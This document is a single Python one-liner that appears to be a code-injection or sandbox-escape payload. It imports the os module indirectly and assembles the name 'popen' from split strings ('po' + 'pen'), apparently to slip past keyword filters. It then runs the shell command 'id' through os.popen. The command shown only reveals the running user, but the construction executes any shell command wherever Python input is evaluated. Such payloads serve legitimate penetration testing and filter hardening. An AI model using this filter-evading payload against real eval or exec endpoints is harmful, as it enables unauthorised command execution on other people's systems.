(lambda m: (lambda f: f('id'))(getattr(m, 'po' + 'pen')))(__import__('os'))
